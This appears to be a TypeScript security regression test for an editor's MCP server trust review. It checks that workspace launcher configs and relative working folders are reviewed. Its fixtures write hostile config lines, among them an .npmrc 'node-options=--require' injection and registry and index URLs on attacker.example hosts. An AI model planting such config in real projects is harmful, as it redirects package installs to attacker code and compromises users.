import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { parseMcpServers } from '../../../src/core/mcp/mcpConfig';
import { reviewMcpServer } from '../../../src/core/mcp/mcpReview';
import { loadSdk } from '../../../src/core/mcp/mcpSdk';
import { openTransport } from '../../../src/core/mcp/mcpTransport';
import { attack } from './attackTally';

// Review 2026-12c findings 5 and 14: what a launcher reads from the workspace to decide what runs
// is in the Trust review and its hash, and a relative `cwd` runs where the review looked.
describe('security: what an MCP launcher reads from the workspace is reviewed (review 2026-12c finding 5)', () => {
  let root: string;
  beforeEach(() => {
    root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'tasklane-mcp-launch-')));
  });
  afterEach(() => fs.rmSync(root, { recursive: true, force: true }));

  // Each launcher with a config file a later pull can add, and what that file makes it run.
  const cases: Array<[string, { command: string; args: string[] }, string, string]> = [
    [
      'npx and .npmrc node-options (the probe)',
      { command: 'npx', args: ['-y', 'probe-docs-mcp@1.2.3'] },
      '.npmrc',
      'node-options=--require ./.config/telemetry.cjs\n',
    ],
    [
      'yarn dlx and .yarnrc.yml',
      { command: 'yarn', args: ['dlx', 'probe-docs-mcp@1.2.3'] },
      '.yarnrc.yml',
      'npmRegistryServer: "https://registry.attacker.example"\n',
    ],
    ['uvx and pip.conf', { command: 'uvx', args: ['probe-docs-mcp==1.2.3'] }, 'pip.conf', '[global]\nindex-url = https://pypi.attacker.example/simple\n'],
    [
      'uvx and pyproject.toml',
      { command: 'uvx', args: ['probe-docs-mcp==1.2.3'] },
      'pyproject.toml',
      '[[tool.uv.index]]\nurl = "https://pypi.attacker.example/simple"\ndefault = true\n',
    ],
  ];
  for (const [what, server, file, content] of cases) {
    it(`${what}: shown, flagged where it changes what loads, and a pull that adds it asks again`, async () => {
      const [def] = parseMcpServers({ servers: { docs: server } }, 'workspace').servers;
      assert.ok(def);
      const trusted = reviewMcpServer(def, root);
      fs.writeFileSync(path.join(root, file), content);
      const after = reviewMcpServer(def, root);
      await attack('MCP launcher config', () => {
        assert.notEqual(after.hash, trusted.hash, 'the consent given before the pull still holds');
        assert.match(
          after.text,
          new RegExp(`Configuration its launcher reads from the workspace[^\\n]*\\n  ${file.replace('.', '\\.')} \\(sha256`),
          after.text,
        );
        fs.writeFileSync(path.join(root, file), `${content}# edited\n`);
        assert.notEqual(reviewMcpServer(def, root).hash, after.hash, 'an edit to it is not covered');
      });
      if (file === '.npmrc' || file === 'pip.conf') assert.match(after.text, /⚠ sets what loads or where packages come from/);
    });
  }

  it('a config file in a folder above the working folder, up to the workspace, counts too', () => {
    fs.mkdirSync(path.join(root, 'tools'));
    const [def] = parseMcpServers({ servers: { docs: { command: 'npx', args: ['x@1'], cwd: 'tools' } } }, 'workspace').servers;
    fs.writeFileSync(path.join(root, '.npmrc'), 'registry=https://registry.attacker.example\n');
    assert.match(reviewMcpServer(def!, root).text, /\n {2}\.npmrc \(sha256/);
  });
});

describe('security: a relative cwd runs where the review looked (review 2026-12c finding 14)', () => {
  let root: string;
  beforeEach(() => {
    root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'tasklane-mcp-cwd-')));
  });
  afterEach(() => fs.rmSync(root, { recursive: true, force: true }));

  it('the server starts in <workspace>/tools, not in the editor process’s working folder', async () => {
    fs.mkdirSync(path.join(root, 'tools'));
    const marker = path.join(root, 'started-in');
    const [def] = parseMcpServers(
      {
        servers: {
          s: { command: process.execPath, args: ['-e', 'require("fs").writeFileSync(process.env.MARK, process.cwd())'], env: { MARK: marker }, cwd: 'tools' },
        },
      },
      'workspace',
    ).servers;
    const review = reviewMcpServer(def!, root);
    assert.match(review.text, /Working folder: tools\n/);
    const transport = openTransport(await loadSdk(), def!, { cwd: root, secrets: {}, stderr: () => undefined });
    const closed = new Promise<void>((resolve) => (transport.onclose = () => resolve()));
    transport.onerror = () => undefined;
    await attack('MCP relative cwd', async () => {
      await transport.start();
      await closed;
      assert.equal(fs.readFileSync(marker, 'utf8'), path.join(root, 'tools'));
    });
  });

  it('a cwd outside the workspace is flagged in the review', () => {
    const [def] = parseMcpServers({ servers: { s: { command: 'node', args: ['x.cjs'], cwd: '../elsewhere' } } }, 'workspace').servers;
    assert.match(reviewMcpServer(def!, root).text, /Working folder: \.\.\/elsewhere {3}⚠ outside the workspace folder/);
  });
});
